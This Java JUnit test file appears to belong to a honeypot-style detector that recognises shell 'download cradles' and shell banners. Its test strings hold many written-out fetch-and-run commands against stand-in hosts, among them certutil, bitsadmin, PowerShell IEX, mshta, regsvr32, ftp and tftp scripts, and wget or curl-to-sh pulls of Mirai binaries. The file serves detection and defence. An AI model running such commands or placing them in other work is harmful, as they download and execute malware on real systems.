package org.hyakuyobako.detect.shell;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * The download cradles attackers type, as honeypots and malware write-ups record them, each with
 * the place it fetches from; and text that only looks like them. Mutations this test catches: a
 * cradle no longer recognised, an address no longer named (the infection chain then misses the
 * download), ordinary commands taken for a download.
 */
class ShellCommandsTest {
    private static void fetchesFrom(String text, String... named) {
        assertTrue(ShellTextAnchors.mayHold(text), "the cheap first look lets it through: " + text);
        ShellCommands.Reading r = ShellCommands.read(text);
        assertTrue(r.downloads(), text);
        assertEquals(Set.of(named), r.named(), text);
    }

    @Test
    void windowsCradles() {
        fetchesFrom("echo open 203.0.113.7 21 > o&echo user 1 1 >> o &echo binary >> o&echo get ssms.exe >> o&echo bye >> o&ftp -n -s:o&del o&ssms.exe",
                "203.0.113.7");
        fetchesFrom("tftp -i 198.51.100.9 GET msblast.exe\r\nstart msblast.exe", "198.51.100.9");
        fetchesFrom("cmd /c certutil -urlcache -split -f http://evil.example:8080/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe", "evil.example");
        fetchesFrom("bitsadmin /transfer job /download /priority high http://192.0.2.44/b.exe C:\\b.exe", "192.0.2.44");
        fetchesFrom("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://cdn.bad.example/p.ps1')\"",
                "cdn.bad.example");
        fetchesFrom("powershell Invoke-WebRequest -Uri https://x.example/l.exe -OutFile l.exe", "x.example");
        fetchesFrom("mshta.exe http://203.0.113.80/run.hta", "203.0.113.80");
        fetchesFrom("regsvr32 /s /n /u /i:http://203.0.113.81/file.sct scrobj.dll", "203.0.113.81");
    }

    @Test
    void unixCradles() {
        fetchesFrom("cd /tmp; wget http://203.0.113.5/bins/mirai.arm7; chmod 777 mirai.arm7; ./mirai.arm7 telnet", "203.0.113.5");
        fetchesFrom("curl -s -O http://loader.example/x.sh | sh", "loader.example");
        fetchesFrom("busybox tftp -g -r mips 198.51.100.3", "198.51.100.3");
        fetchesFrom("wget 203.0.113.9/k -O /tmp/k", "203.0.113.9");
    }

    @Test
    void whatIsStartedAndFetched() {
        ShellCommands.Reading r = ShellCommands.read("echo open 203.0.113.7 > o&echo get ssms.exe >> o&ftp -s:o&ssms.exe");
        assertEquals(Set.of("ssms.exe"), r.files());
        assertEquals(List.of("ssms.exe"), r.starts(), "ftp.exe itself is not the code started");
        r = ShellCommands.read("start msblast.exe\nmsblast.exe\n");
        assertFalse(r.downloads());
        assertEquals(List.of("msblast.exe"), r.starts());
    }

    @Test
    void ordinaryTextIsNoCradle() {
        for (String text : List.of("GET / HTTP/1.1\r\nHost: www.example.com\r\n\r\n", "dir\r\ncd \\\r\nipconfig /all\r\n",
                "see http://www.example.com/ for the manual", "open the door and get the exe", "SSH-2.0-OpenSSH_8.9")) {
            assertFalse(ShellCommands.read(text).downloads(), text);
        }
    }

    @Test
    void hostileTextIsBounded() {
        String huge = "wget http://" + "a".repeat(100_000) + ".example/x";
        ShellCommands.Reading r = ShellCommands.read(huge);
        assertTrue(r.named().stream().allMatch(n -> n.length() <= 253));
    }

    @Test
    void bannersOfShells() {
        assertEquals("a Windows command prompt", ShellBanner.of("Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>"));
        assertEquals("a Windows command prompt", ShellBanner.of("\r\nC:\\WINNT\\system32>"));
        assertEquals("a Unix shell", ShellBanner.of("\nsh-4.2$ "));
        for (String banner : List.of("Microsoft Windows XP [Version 5.1.2600]", "\r\nC:\\WINNT\\system32>", "\nbash-5.1# ",
                "\nBusyBox v1.30.1 built-in shell")) {
            assertTrue(ShellTextAnchors.mayHold(banner), banner);
        }
        assertFalse(ShellTextAnchors.mayHold("\u0000\u0001binary exploit padding without words"));
        assertNull(ShellBanner.of("220 ftp.example.com FTP server ready\r\n"));
        assertNull(ShellBanner.of("see C:\\Program Files for details"));
    }
}
